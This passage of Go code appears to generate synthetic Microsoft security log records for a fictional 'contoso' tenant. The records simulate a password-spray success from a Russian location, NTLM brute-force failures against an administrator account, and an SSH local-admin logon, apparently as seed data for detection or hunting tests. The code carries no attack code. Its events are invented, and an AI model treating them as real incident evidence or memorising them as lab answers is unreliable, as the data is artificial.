	ru := map[string]any{"city": "Moscow", "state": "Moscow", "countryOrRegion": "RU"}
	success := 30*time.Hour - 61*time.Minute
	for i := 0; i < 12; i++ {
		at := success - time.Duration(i+1)*30*time.Minute
		g.add("AADNonInteractiveUserSignInLogs", map[string]any{
			"TimeGenerated": g.ago(at), "CreatedDateTime": g.ago(at), "OperationName": "Sign-in activity", "Category": "NonInteractiveUserSignInLogs",
			"UserPrincipalName": SprayVictim, "UserDisplayName": displayName(SprayVictim), "UserId": objectID(SprayVictim, ""),
			"AppDisplayName": "Office 365 Exchange Online", "ResourceDisplayName": "Office 365 Exchange Online", "IPAddress": SprayIP,
			"ResultType": "0", "ClientAppUsed": "Mobile Apps and Desktop clients", "IsInteractive": false, "AADTenantId": TenantID,
			"LocationDetails": mustJSON(ru), "IncomingTokenType": "refreshToken", "ConditionalAccessStatus": "notApplied",
		})
	}
	for i, u := range users[:6] {
		at := time.Duration(2+i) * time.Hour
		g.add("AADNonInteractiveUserSignInLogs", map[string]any{
			"TimeGenerated": g.ago(at), "UserPrincipalName": upn(u), "UserId": objectID(upn(u), ""), "AppDisplayName": "Microsoft Teams",
			"IPAddress": corpIPs[i%len(corpIPs)], "ResultType": "0", "IsInteractive": false, "AADTenantId": TenantID, "IncomingTokenType": "refreshToken",
		})
	}
	for i := 0; i < 4; i++ {
		at := success - 20*time.Minute - time.Duration(i)*7*time.Minute
		g.add("IdentityLogonEvents", map[string]any{
			"TimeGenerated": g.ago(at), "ActionType": "LogonSuccess", "Application": "Active Directory", "LogonType": "Resource access",
			"Protocol": "Kerberos", "AccountUpn": SprayVictim, "AccountName": "megan.bowen", "AccountDomain": "contoso.local",
			"AccountSid": sid("megan.bowen"), "AccountObjectId": objectID(SprayVictim, ""), "DeviceName": "win-fs01.contoso.local",
			"IPAddress": "10.0.3.21", "DestinationDeviceName": "win-dc01.contoso.local", "DestinationIPAddress": "10.0.3.10", "DestinationPort": 88,
		})
	}
	for i := 0; i < 6; i++ {
		at := 10*time.Hour - time.Duration(i)*2*time.Minute
		g.add("IdentityLogonEvents", map[string]any{
			"TimeGenerated": g.ago(at), "ActionType": "LogonFailed", "Application": "Active Directory", "LogonType": "Credentials validation",
			"Protocol": "Ntlm", "AccountName": "administrator", "AccountDomain": "contoso.local", "DeviceName": "win-fs01.contoso.local",
			"IPAddress": BruteIP, "DestinationDeviceName": "win-dc01.contoso.local", "DestinationIPAddress": "10.0.3.10", "FailureReason": "WrongPassword",
		})
	}
	in := 12*time.Hour - 46*time.Minute
	g.add("DeviceLogonEvents", map[string]any{
		"TimeGenerated": g.ago(in), "DeviceId": deviceID(BruteHost), "DeviceName": BruteHost + ".contoso.local", "ActionType": "LogonSuccess",
		"LogonType": "Network", "Protocol": "Ssh", "AccountName": BruteAccount, "AccountDomain": BruteHost, "RemoteIP": BruteIP, "RemotePort": 41022,
		"RemoteIPType": "Public", "IsLocalAdmin": true,
	})
	for i := 0; i < 5; i++ {
		g.add("DeviceLogonEvents", map[string]any{
			"TimeGenerated": g.ago(10*time.Hour - time.Duration(i)*time.Minute), "DeviceId": deviceID("win-fs01"), "DeviceName": "win-fs01.contoso.local",
			"ActionType": "LogonFailed", "LogonType": "Network", "Protocol": "Ntlm", "AccountName": "administrator", "AccountDomain": "contoso",
			"RemoteIP": BruteIP, "RemoteIPType": "Public", "FailureReason": "InvalidUserNameOrPassword",
		})
	}
	g.add("DeviceLogonEvents", map[string]any{
		"TimeGenerated": g.ago(success - 30*time.Minute), "DeviceId": deviceID("win-fs01"), "DeviceName": "win-fs01.contoso.local",
		"ActionType": "LogonSuccess", "LogonType": "RemoteInteractive", "Protocol": "Kerberos", "AccountName": "megan.bowen", "AccountDomain": "contoso",
		"AccountSid": sid("megan.bowen"), "RemoteIP": "10.0.3.25", "RemoteDeviceName": "win-app03", "RemoteIPType": "Private", "IsLocalAdmin": false,
	})
}
